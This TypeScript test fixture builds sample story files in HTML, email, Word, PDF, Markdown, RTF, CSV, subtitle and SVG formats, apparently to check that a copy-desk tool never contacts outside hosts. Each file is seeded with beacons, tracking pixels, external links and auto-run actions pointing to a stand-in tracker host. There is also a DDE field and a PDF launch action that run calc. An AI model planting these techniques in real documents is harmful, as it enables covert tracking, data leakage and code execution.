import { strToU8, zipSync } from 'fflate';

/** The address to which everything in these files would phone home. Nobody is there: the name is reserved. */
export const HOME = 'http://tracker.example';

/** What the story says, so that there is something to find and to show. */
const PROSE = 'Mayor Ruth Pennock of Penmorrow spoke on Monday. Ruth Pennock welcomed 240 guests to the harbour.';

const HTML = `<html manifest="${HOME}/m"><head><base href="${HOME}/"><title>Harbour news</title>
<link rel="stylesheet" href="${HOME}/a.css"><link rel="preload" as="font" href="${HOME}/b.woff2"><link rel="icon" href="${HOME}/c.ico">
<link rel="dns-prefetch" href="//tracker.example"><meta http-equiv="refresh" content="0;url=${HOME}/d">
<style>@import url(${HOME}/e.css); @font-face { font-family: f; src: url(${HOME}/f.woff2) } body { background: url(${HOME}/g.png) }</style>
<script src="${HOME}/h.js"></script><script>fetch('${HOME}/i'); new Image().src = '${HOME}/j'; navigator.sendBeacon('${HOME}/k')</script>
<script type="application/ld+json">{"@context": "${HOME}/l", "@type": "NewsArticle", "image": "${HOME}/m.png"}</script></head>
<body onload="fetch('${HOME}/n')"><article><p>${PROSE}</p><img src="${HOME}/o.gif" srcset="${HOME}/p.gif 2x" width="1" height="1">
<video poster="${HOME}/q.png" src="${HOME}/r.mp4" autoplay></video><iframe src="${HOME}/s"></iframe><object data="${HOME}/t.swf"></object>
<embed src="${HOME}/u"><svg><image href="${HOME}/v.svg"/><use href="${HOME}/w.svg#x"/></svg><form action="${HOME}/x"><input autofocus></form>
<a href="${HOME}/y" ping="${HOME}/z">more</a></article></body></html>`;

const MAIL = [
  'From: Ruth Pennock <ruth@tracker.example>',
  'To: desk@paper.example',
  'Subject: The harbour',
  'Date: Mon, 2 Mar 2026 10:00:00 +0000',
  'Disposition-Notification-To: spy@tracker.example',
  'Return-Receipt-To: spy@tracker.example',
  `List-Unsubscribe: <${HOME}/unsubscribe>`,
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary=B',
  '',
  '--B',
  'Content-Type: text/html; charset=utf-8',
  '',
  HTML,
  '--B',
  `Content-Type: message/external-body; access-type=URL; URL="${HOME}/body.txt"`,
  '',
  'Content-Type: text/plain',
  '',
  '--B',
  'Content-Type: image/svg+xml',
  'Content-Disposition: inline; filename=pixel.svg',
  '',
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="${HOME}/pixel.png"/></svg>`,
  '--B--',
  '',
].join('\r\n');

const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function word(): Uint8Array {
  const relations = ['attachedTemplate', 'image', 'hyperlink', 'oleObject', 'aFChunk', 'subDocument', 'frame', 'font']
    .map(
      (type, at) =>
        `<Relationship Id="r${at}" Type="${RELATION}/${type}" Target="${HOME}/${type}" TargetMode="External"/>`,
    )
    .join('');
  const file = strToU8(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`,
  );
  const paragraph = (xml: string): string => `<w:p>${xml}</w:p>`;
  const body = [
    paragraph(`<w:r><w:t>${PROSE}</w:t></w:r>`),
    paragraph(
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "${HOME}/field.png" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
    ),
    paragraph(`<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r>`),
    paragraph('<w:hyperlink r:id="r2"><w:r><w:t>The report</w:t></w:r></w:hyperlink>'),
    '<w:altChunk r:id="r4"/>',
  ].join('');
  return zipSync({
    'word/document.xml': strToU8(
      `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${RELATION}"><w:body>${body}</w:body></w:document>`,
    ),
    'word/_rels/document.xml.rels': file,
    'word/_rels/settings.xml.rels': file,
    '_rels/.rels': file,
  });
}

/** A PDF of one page that acts when it is opened, shown, printed and clicked, and lies partly elsewhere. */
function pdf(): Uint8Array {
  const content = `BT /F1 12 Tf 40 700 Td (${PROSE.slice(0, 48)}) Tj 0 -16 Td (${PROSE.slice(49)}) Tj ET /X1 Do`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${HOME}/open) >> /AA << /WC << /S /JavaScript /JS (app.launchURL\\("${HOME}/js"\\)) >> >> /AcroForm << /XFA (<x href="${HOME}/xfa"/>) >> /URI << /Base (${HOME}/) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\("${HOME}/form"\\)) >>] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> /AA << /O << /S /GoToR /F (${HOME}/page.pdf) /D [0 /Fit] >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 790] /A << /S /SubmitForm /F << /FS /URL /F (${HOME}/submit) >> >> /PA << /S /URI /URI (${HOME}/pa) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) /Next << /S /ImportData /F (${HOME}/fdf) >> >> >>] >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Type /Font /Subtype /TrueType /BaseFont /Tracker /FontDescriptor << /Type /FontDescriptor /FontName /Tracker /Flags 32 /FontFile2 7 0 R >> /Encoding /WinAnsiEncoding >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F (${HOME}/image.jpg) >> /FFilter /DCTDecode >>\nstream\n\nendstream`,
    `<< /Length 0 /F << /FS /URL /F (${HOME}/font.ttf) >> >>\nstream\n\nendstream`,
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return strToU8(text, true);
}

const MARKDOWN = `---
title: The harbour
image: ${HOME}/cover.png
---

![pixel](${HOME}/md.png) ${PROSE} [more](${HOME}/more)

<img src="${HOME}/html-in-md.png"> <script src="${HOME}/md.js"></script>

[ref]: ${HOME}/ref
![pixel][ref]
`;

/** Files of a story each of which tries to reach its home, beside a draft that does so, too. */
export const STORY: Readonly<Record<string, string | Uint8Array>> = {
  'copydesk.json': `{ "$schema": "${HOME}/schema.json" }`,
  '.copydesk/dismissals.json': '{ "version": 1 }',
  'draft.md': `---
title: The harbour
image: ${HOME}/draft.png
---

![pixel](${HOME}/draft-pixel.png) Mayor Ruth Pennok [spoke](${HOME}/spoke) to guests. TK

“She welcomed guests to the harbour,” said ${HOME}/quoted.
`,
  'sources/page.html': HTML,
  'sources/mail.eml': MAIL,
  'sources/report.docx': word(),
  'sources/report.pdf': pdf(),
  'sources/notes.md': MARKDOWN,
  'sources/note.txt': `${PROSE}\n\n${HOME}/txt \\\\tracker.example\\share\\x.png file://tracker.example/share smb://tracker.example/x\n`,
  'sources/note.rtf': `{\\rtf1\\ansi{\\*\\template ${HOME}/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "${HOME}/x.png" \\\\d}{\\fldrslt }}{\\object\\objautlink\\objupdate{\\*\\objdata 00}} ${PROSE}\\par}`,
  'sources/table.csv': `name,formula\n"Ruth Pennock","=WEBSERVICE(""${HOME}/csv"")"\n"Emeka Lindqvist","=HYPERLINK(""${HOME}/csv2"")"\n`,
  'sources/talk.vtt': `WEBVTT\n\nSTYLE\n::cue { background: url(${HOME}/vtt.png) }\n\n00:01.000 --> 00:04.000\n<v Ruth Pennock>${PROSE}\n`,
  'sources/picture.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image href="${HOME}/picture.png"/></svg>`,
};
